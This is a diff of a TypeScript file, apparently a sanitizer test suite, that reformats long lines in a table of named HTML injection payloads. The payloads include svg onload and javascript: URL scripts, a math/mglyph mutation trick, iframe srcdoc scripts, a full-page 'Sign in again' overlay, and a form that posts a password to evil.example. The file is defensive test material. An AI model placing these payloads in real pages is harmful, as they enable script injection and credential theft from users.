@@ -22,11 +22,14 @@ const html: Record<string, string> = {
   "svg with onload": "<svg onload=alert(1)>",
   "svg with a script": "<svg><script>alert(1)</script></svg>",
   "svg with use": '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
-  "svg with animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
-  "svg with a foreign object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+  "svg with animate":
+    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
+  "svg with a foreign object":
+    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
   "svg with an image": '<svg><image href="https://evil.example/p.png"/></svg>',
   "math with a link": '<math href="javascript:alert(1)">x</math>',
-  "math with a style inside": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+  "math with a style inside":
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   iframe: '<iframe src="https://evil.example"></iframe>',
   "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   object: '<object data="https://evil.example/x.swf"></object>',
@@ -38,7 +41,8 @@ const html: Record<string, string> = {
   "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
   style: "<style>body{background:url(https://evil.example/p.png)}</style>",
   "style attribute": '<p style="background:url(https://evil.example/p.png)">x</p>',
-  "style attribute over the page": '<div style="position:fixed;inset:0;background:white">Sign in again</div>',
+  "style attribute over the page":
+    '<div style="position:fixed;inset:0;background:white">Sign in again</div>',
   "style with import": '<style>@import "https://evil.example/x.css";</style>',
   form: '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
   "button with formaction": '<button formaction="javascript:alert(1)">x</button>',
